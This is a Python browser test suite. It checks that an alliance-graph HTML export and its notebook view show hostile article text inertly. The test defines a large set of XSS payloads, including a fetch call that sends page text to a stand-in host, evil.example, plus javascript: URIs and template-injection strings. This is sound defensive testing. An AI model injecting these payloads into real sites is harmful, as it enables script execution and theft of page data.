"""What articles say is data: hostile text in every field of the page runs nothing and breaks nothing."""

from __future__ import annotations

from itertools import product
from pathlib import Path

import pytest
from opened import Open
from page_demo import article, claim, entity

from alliancegraph.export.page import render
from alliancegraph.graph import AllianceGraph
from alliancegraph.model import Claim, Document

pytestmark = pytest.mark.browser

ACTS = (
    "pwned()",
    "alert(1)",
    "fetch('https://evil.example/?'+document.body.innerText)",
    "document.title='pwned'",
)
FRAMES = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<math><mtext></mtext><script>{}</script></math>",
    "<a href=javascript:{}>a</a>",
    "<style>@import 'https://evil.example/x.css'</style>{}",
    "<link rel=stylesheet href=https://evil.example/{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=https://evil.example/>{}",
    "<form action=https://evil.example><button>{}</button></form>",
    '"><script>{}</script>',
    "' onmouseover='{}",
    '" onfocus="{}" autofocus="',
    "`+{}+`",
    "'+{}+'",
    '"+{}+"',
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{{{{}}}}}",
    "<%= {} %>",
    "{{% {} %}}",
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "]]><script>{}</script>",
    "<!--<script>{}</script>-->",
    "--><script>{}</script>",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><script>{}</script>'>",
)
ODD = (
    "\u202eevil\u202c",
    "a\u2066b\u2069c\u200f\u200e\u061c",
    "line\u2028separator\u2029here",
    "nul\x00l and \x1b[31mescape\x1b[0m and \x08\x08",
    "\ufeffbom\ufffe\uffff",
    "e" + "\u0301" * 400,
    "\U0001d54f" * 50,
    "👩\u200d👩\u200d👧 🏎️",
    "z" * 100_000,
    "(" * 5_000,
    "a.*+?^${}()|[]\\b",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "~",
    "#company=x&select=y",
    "\\",
    '"',
    "'",
    "<",
    "&",
    "=1+1",
    "مرحبا",
    "   ",
    "%",
)
HOSTILE = [frame.format(act) for frame, act in product(FRAMES, ACTS)] + list(ODD)


VISIT_EVERYTHING = """
const FORBIDDEN = 'img, iframe, video, form:not(#path-form), base, meta, link, style, math, template, object';
const title = document.title;
await app.readEvidence();
const bad = new Set();
let calls = 0;
let shown = 0;
window.pwned = window.alert = () => { calls += 1; };
const look = () => {
  for (const element of document.body.querySelectorAll(FORBIDDEN)) bad.add(element.localName);
  for (const element of document.body.querySelectorAll('*')) {
    for (const { name } of element.attributes) if (name.startsWith('on')) bad.add(name);
  }
  for (const link of document.body.querySelectorAll('a')) {
    const address = link.getAttribute('href');
    if (!/^(https?:|#table-view$)/.test(address)) bad.add(address);
  }
};
for (const entity of app.graph.entities) {
  app.open(entity);
  look();
  for (const fact of entity.facts) {
    app.go({ select: fact.key }, false);
    look();
    shown += document.querySelectorAll('#panel figure').length;
  }
  app.finder.input.value = entity.name;
  app.finder.suggest();
  look();
  app.finder.close();
  if (entity.id === 'hub-motors') continue;
  app.go({ path: [entity.id, 'hub-motors'], company: null, table: true }, false);
  look();
  app.go({ path: null, company: entity.id }, false);
}
await new Promise((resolve) => setTimeout(resolve, 300));
const scripts = document.body.querySelectorAll('script').length;
return { calls, bad: [...bad], shown, retitled: document.title !== title, scripts };
"""


@pytest.fixture(scope="module")
def hostile_graph() -> AllianceGraph:
    """A graph in which every field of the n-th fact holds the n-th text."""
    documents: list[Document] = []
    claims: list[Claim] = []
    hub = entity("Hub Motors")
    for number, text in enumerate(HOSTILE):
        odd = entity("odd").model_copy(
            update={
                "id": f"odd-{number}",
                "name": text,
                "aliases": (text, f"alias {text}"),
                "country": text,
                "wikidata": text,
            }
        )
        told = article(
            f"doc-{number}", f"{text} and Hub Motors and {text}", title=text, source=text, url=text
        )
        documents.append(told)
        said = {"product": text, "platform": text, "attribution": text, "start": "2001", "stake": 10.0}
        claims.append(claim(told, odd, "owns", hub, **said))
        claims.append(claim(told, odd, "owns", hub, **{**said, "start": "2004", "stake": 20.0}))
    return AllianceGraph.from_claims(documents, claims)


@pytest.fixture(scope="module")
def hostile_page(hostile_graph: AllianceGraph, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return render(hostile_graph, tmp_path_factory.mktemp("hostile") / "index.html")


def test_there_are_enough() -> None:
    assert len(set(HOSTILE)) >= 200


@pytest.mark.parametrize("phone", [False, True], ids=["desktop", "phone"])
def test_nothing_runs_and_nothing_breaks(open_page: Open, hostile_page: Path, phone: bool) -> None:
    page = open_page(hostile_page, "#view=table", phone=phone)
    report = page.run(VISIT_EVERYTHING)
    assert report["calls"] == 0
    assert report["bad"] == []
    assert not report["retitled"]
    assert report["scripts"] == 2
    assert report["shown"] >= len(HOSTILE)


def test_text_is_shown_as_it_is_written(open_page: Open, hostile_page: Path) -> None:
    page = open_page(hostile_page, "#select=odd-0")
    assert HOSTILE[0] in page.panel
    assert page.page.inner_text("#panel h2") == HOSTILE[0]


def test_drawings_hold_no_markup_of_others(open_page: Open, hostile_page: Path) -> None:
    page = open_page(hostile_page, "#company=hub-motors&more=2")
    with page.page.expect_download() as download:
        page.page.click("#show-share")
        page.page.click("#save-svg")
    drawing = Path(download.value.path()).read_text(encoding="utf-8")
    assert "<script" not in drawing
    with page.page.expect_download() as download:
        page.page.click("#show-share")
        page.page.click("#save-csv")
    assert "\r\n=" not in Path(download.value.path()).read_text(encoding="utf-8")


def test_a_notebook_is_as_safe(open_page: Open, hostile_graph: AllianceGraph, tmp_path: Path) -> None:
    notebook = tmp_path / "notebook.html"
    notebook.write_text(
        "<!doctype html><html data-ready><title>notebook</title><script>var calls = 0;"
        f"function pwned() {{ calls += 1; }}</script>{hostile_graph.show()._repr_html_()}",
        encoding="utf-8",
    )
    page = open_page(notebook).page
    frame = page.frame_locator("iframe")
    frame.locator("html[data-ready]").wait_for(state="attached")
    frame.locator("#search").fill(HOSTILE[0])
    frame.locator("#search").press("Enter")
    assert frame.locator("#panel h2").inner_text() == HOSTILE[0]
    assert page.evaluate("[calls, document.title, document.querySelectorAll('body *').length]") == [
        *(0, "notebook", 1)
    ]
    assert page.locator("iframe").get_attribute("sandbox") == "allow-scripts allow-downloads allow-popups"


def test_filtering_by_hostile_countries(open_page: Open, hostile_page: Path) -> None:
    page = open_page(hostile_page)
    boxes = page.page.locator("#legend [data-key^=country-]")
    assert boxes.count() > 150
    boxes.nth(5).focus()
    page.page.keyboard.press("Space")
    assert page.app("app.state.countries.length") == 1
    assert page.page.evaluate("document.activeElement.checked")
